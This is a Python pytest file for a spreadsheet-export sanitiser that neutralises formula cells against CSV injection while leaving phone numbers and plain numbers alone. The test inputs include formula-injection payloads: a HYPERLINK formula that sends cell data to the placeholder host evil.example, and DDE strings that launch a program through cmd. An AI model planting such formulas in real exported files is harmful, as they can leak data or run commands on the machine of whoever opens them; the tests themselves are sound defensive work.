"""Formula cells made inert (OWASP's advice on CSV injection), numbers and phone numbers left alone."""

import pytest

from api.spreadsheet import is_formula, neutralise


@pytest.mark.parametrize("text", [
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")", "=1+1", "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1", "-x", "+", "-", "@", "=", "+254 700 CALL ME", "-1e3+A1",
    "+254700111222=1", "\t12",
])
def test_formulas_get_an_apostrophe(text):
    assert is_formula(text) and neutralise(text) == "'" + text


@pytest.mark.parametrize("text", [
    "+254700111222", "+254 700 111 222", "+254-700-111-222", "+1 (555) 123-4567", "-2.5", "+3", "-0.5e-3", "12",
    "Kano", "", " =1", "a=1", "0712 345678", ".5", "-.5",
])
def test_numbers_phone_numbers_and_text_stay(text):
    assert not is_formula(text) and neutralise(text) == text
